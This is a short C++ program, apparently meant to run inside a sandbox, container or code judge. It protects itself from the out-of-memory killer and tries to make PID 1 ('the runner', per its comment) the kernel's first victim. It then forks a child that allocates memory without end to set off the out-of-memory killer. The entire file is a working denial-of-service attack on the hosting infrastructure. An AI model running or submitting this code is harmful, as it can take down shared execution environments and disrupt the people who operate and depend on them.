#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>
// Asks the kernel to kill somebody else: oneself last, the runner first.
static void say(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd >= 0 && write(fd, text, strlen(text)) > 0) std::printf("%s\n", path);
}
int main() {
    say("/proc/self/oom_score_adj", "-1000"), say("/proc/1/oom_score_adj", "1000"), say("/proc/1/oom_adj", "15");
    std::fflush(stdout);
    if (fork() == 0) {
        say("/proc/self/oom_score_adj", "1000");
        for (;;) std::memset(std::malloc(1 << 20), 1, 1 << 20);
    }
    wait(nullptr);
}
